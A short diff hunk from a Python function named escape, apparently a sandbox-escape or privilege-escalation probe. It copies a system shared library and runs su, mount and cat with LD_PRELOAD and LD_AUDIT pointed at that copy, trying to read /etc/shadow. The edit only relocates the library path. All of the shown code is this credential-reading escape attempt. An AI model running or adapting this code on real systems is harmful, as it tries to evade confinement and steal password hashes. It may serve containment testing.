@@ -10,10 +10,10 @@ def escape(bait):
     reached = []
     library = next((f"/lib/{a}/libutil.so.1" for a in os.listdir("/lib") if os.path.exists(f"/lib/{a}/libutil.so.1")), "")
     if library:
-        shutil.copy(library, "/box/own.so")
+        shutil.copyfile(library, "own.so")
     for program in ("/usr/bin/su", "/usr/bin/mount", "/bin/cat"):
         if os.path.exists(program):
-            environment = {"LD_PRELOAD": "/box/own.so", "LD_LIBRARY_PATH": "/box", "LD_AUDIT": "/box/own.so", "PATH": "/bin"}
+            environment = {"LD_PRELOAD": "./own.so", "LD_LIBRARY_PATH": ".", "LD_AUDIT": "./own.so", "PATH": "/bin"}
             done = subprocess.run(
                 [program, "/etc/shadow"], env=environment, stdin=subprocess.DEVNULL, capture_output=True, timeout=2
             )
